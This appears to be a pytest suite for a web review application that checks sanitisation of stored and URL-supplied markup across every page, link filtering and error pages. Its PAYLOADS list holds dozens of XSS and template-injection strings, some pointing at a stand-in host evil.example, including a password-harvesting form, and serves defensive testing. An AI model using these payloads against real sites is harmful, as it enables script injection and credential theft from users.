"""Stored markup is inert in every view: case 16 to 19 of the threat list."""

from __future__ import annotations

import pytest
from selectolax.lexbor import LexborHTMLParser
from sqlalchemy import update

from review.shown import article, comparison, web_link
from storage.models import (
    Attachment,
    CrawlRun,
    Document,
    DocumentVersion,
    Fetch,
    HealthEvent,
    Issue,
    Label,
    Outbox,
    Source,
    Subscriber,
    User,
)
from tests.review.conftest import NEWEST, Desk

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "{{7*7}}{% raw %}{{ config }}{% endraw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\x00<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)  # fmt: skip

ACTIVE_TAGS = (
    "script, iframe, object, embed, svg, math, style, base, link, meta, video, audio, source, "
    "form, input, textarea, select, button, template, marquee, xmp, frame, frameset"
)


def active_parts(fragment: str) -> list[str]:
    """Tags and attributes of a fragment that could act."""
    found = []
    for node in LexborHTMLParser(f"<main>{fragment}</main>").css("main *"):
        if node.tag in ACTIVE_TAGS.split(", "):
            found.append(node.tag)
        for name, value in node.attributes.items():
            scheme = (value or "").strip().lower().replace("\t", "")
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "src"}:
                found.append(f"{node.tag}[{name}]")
            if name == "href" and not scheme.startswith(("http://", "https://", "mailto:")):
                found.append(f"{node.tag}[href={value}]")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_article_bodies_are_cleaned_on_the_way_out(payload: str) -> None:
    for text in (payload, f"<p>{payload}</p>", f"<table><tr><td>{payload}</td></tr></table>"):
        once = str(article(text, image_word="图片"))
        assert active_parts(once) == []
        assert str(article(once, image_word="图片")) == once, "cleaning is a fixed point"
        assert active_parts(str(comparison(text))) == []


def test_images_become_notes() -> None:
    shown = str(
        article('<p><img src="https://x.example/a.png" alt="图1 <b>"></p>', image_word="图片")
    )
    assert "<img" not in shown
    assert "[图片] 图1 &lt;b&gt;" in shown


def test_ordinary_markup_stays() -> None:
    text = '<h2>一</h2><p>甲<strong>乙</strong></p><table><tr><td colspan="2">丙</td></tr></table>'
    assert (
        str(article(text, image_word="图片")).replace("<tbody>", "").replace("</tbody>", "") == text
    )


@pytest.mark.parametrize(
    "value",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        " java\nscript:x",
        "//evil",
        "http://",
        "http://[",
        None,
    ],
)
def test_only_web_addresses_become_links(value: str | None) -> None:
    assert web_link(value) is None


def _poison(desk: Desk, text: str) -> None:
    """Put the text into every column a crawler, an editor or a stranger can fill."""
    with desk.db.writer() as session:
        for model, names in (
            (Document, ("title", "publisher", "doc_number", "region", "level", "url", "lang")),
            (Document, ("doc_type", "summary", "original_source", "index_number")),
            (DocumentVersion, ("title",)),
            (Attachment, ("name", "url", "media_type", "error_code")),
            (Label, ("title",)),
            (Source, ("title", "publisher", "region", "level", "homepage")),
            (CrawlRun, ("error_code", "error_detail", "requested_by")),
            (Fetch, ("url", "error_detail", "error_code")),
            (HealthEvent, ("summary", "rule")),
            (Issue, ("title", "void_reason", "approved_by")),
            (Outbox, ("recipient", "last_error", "message_id")),
            (Subscriber, ("address", "name", "suppress_reason")),
            (User, ("display_name",)),
        ):
            session.execute(update(model).values(dict.fromkeys(names, text)))
        session.execute(update(Document).values(issuing_bodies=[text]))
        session.execute(update(Subscriber).values(consent={"by": text, "text": text}))


VIEWS = (
    "/", "/items", f"/items/{NEWEST}", f"/items/{NEWEST}/diff?from=1&to=2",
    f"/items/{NEWEST}/versions/1", "/sources", "/sources/cn-zhejiang-jxt", "/sources/cn-cac-zcfg",
    "/runs", "/runs/8", "/runs/5", "/issues", "/issues/1?part=items", "/issues/2?part=text",
    "/issues/1/outbox", "/subscribers", "/archive", "/users", "/account", "/api/items",
    "/api/sources", "/metrics", "/i/1.x",
)  # fmt: skip


def test_stored_payloads_are_inert_in_every_view(desk: Desk) -> None:
    admin = desk.visitor("admin")
    clean = {path: len(active_nodes(admin.get(path).text)) for path in VIEWS}
    _poison(desk, "".join(PAYLOADS))
    for path in VIEWS:
        response = admin.get(path)
        assert response.status_code == 200 or path == "/i/1.x", path
        kind = response.headers["content-type"]
        if not kind.startswith("text/html"):
            assert kind.startswith(("application/json", "text/plain")), path
            continue
        nodes = active_nodes(response.text)
        assert len(nodes) <= clean[path], (path, nodes[-5:])
        assert not foreign_links(response.text), path
    title = admin.page("/items").one(".row h3").text()
    assert "{{7*7}}{% raw %}" in title, "shown as it was written"


def active_nodes(html: str) -> list[str]:
    """Active tags and handlers of a page, ours included."""
    tree = LexborHTMLParser(html)
    found = [node.tag for node in tree.css(ACTIVE_TAGS)]
    for node in tree.css("*"):
        found += [name for name in node.attributes if name.startswith("on") or name == "style"]
    return [name for name in found if name]


def foreign_links(html: str) -> list[str]:
    """Addresses that are neither ours nor plain web links."""
    tree = LexborHTMLParser(html)
    values = [node.attributes.get("href") or "" for node in tree.css("a, link, area, base")]
    values += [node.attributes.get("action") or "" for node in tree.css("form")]
    return [v for v in values if not v.startswith(("/", "#", "?", "https://", "http://"))]


def test_values_from_the_address_are_inert(desk: Desk) -> None:
    reader = desk.visitor("reader")
    names = ("q", "source", "label", "topic", "region", "level", "since", "page", "ok", "done")
    plain = len(active_nodes(reader.get("/items?q=x").text))
    everything = "".join(PAYLOADS).replace("\x00", "")
    cases = [("/items", payload) for payload in PAYLOADS]
    cases += [(path, everything) for path in ("/sources", "/login", "/setup", "/subscribers", "/")]
    for path, payload in cases:
        params = dict.fromkeys((*names, "next", "token"), payload)
        response = reader.send("GET", path, params=params)
        assert response.status_code in {200, 303, 403}, path
        assert len(active_nodes(response.text)) <= plain, (path, payload)
        assert not foreign_links(response.text), (path, payload)
        assert response.headers.get("location", "/").startswith("/"), (path, payload)


def test_error_pages_do_not_repeat_what_was_asked(desk: Desk) -> None:
    admin = desk.visitor("admin")
    for path in ("/x<script>alert(1)</script>", "/items/<script>", "/sources/<img src=x>"):
        response = admin.get(path)
        assert response.status_code in {404, 422}
        assert "<script>alert" not in response.text
        assert "<img" not in response.text
